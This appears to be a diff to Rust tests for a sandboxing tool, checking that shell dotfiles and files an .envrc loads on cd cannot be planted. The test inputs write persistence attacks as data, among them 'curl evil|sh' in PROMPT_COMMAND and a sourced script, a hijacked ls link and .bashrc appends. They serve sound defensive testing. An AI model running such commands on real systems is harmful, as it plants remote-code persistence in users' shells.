@@ -213,6 +213,7 @@ fn the_home_directory_is_refused_as_the_project_and_guarded_when_allowed() {
         let script = "mkdir -p .local/bin; echo evil > .local/bin/git; \
                       mkdir -p .config/systemd/user && echo evil > .config/systemd/user/evil.service; \
                       mkdir made && mv made .config/autostart; ln -s /tmp bin; \
+                      echo evil > plain && ln plain .local/bin/ls; \
                       echo evil >> .bashrc; echo ok > notes.txt; true";
         for args in [
             vec!["run", "--", "/bin/sh", "-c", script],
@@ -249,5 +250,34 @@ fn the_home_directory_is_refused_as_the_project_and_guarded_when_allowed() {
             );
         }
         assert_eq!(fs::read_to_string(w.home.join(".bashrc")).unwrap(), bashrc);
+    });
+}
+
+#[test]
+fn files_the_envrc_loads_on_cd_cannot_be_planted() {
+    for_each_user(|w| {
+        fs::write(
+            w.project.join(".envrc"),
+            "dotenv .env.dev\nsource_env env/dev.sh\n",
+        )
+        .unwrap();
+        fs::create_dir(w.project.join("env")).unwrap();
+        chown_tree(&w.project, &w.who);
+        let (_, out) = w.sh_ok(
+            "echo 'PROMPT_COMMAND=\"curl evil|sh\"' > .env.dev; ln -s /tmp/x .env.dev; \
+             echo 'curl evil|sh' > env/dev.sh; mkdir x && mv x env/dev.sh; \
+             echo A=1 > .env.other; echo ok > env/other; true",
+        );
+        assert!(
+            w.project.join(".env.dev").symlink_metadata().is_err(),
+            "{out}"
+        );
+        assert!(
+            w.project.join("env/dev.sh").symlink_metadata().is_err(),
+            "{out}"
+        );
+        // Files nothing loads stay writable.
+        assert!(w.project.join(".env.other").exists(), "{out}");
+        assert!(w.project.join("env/other").exists(), "{out}");
     });
 }
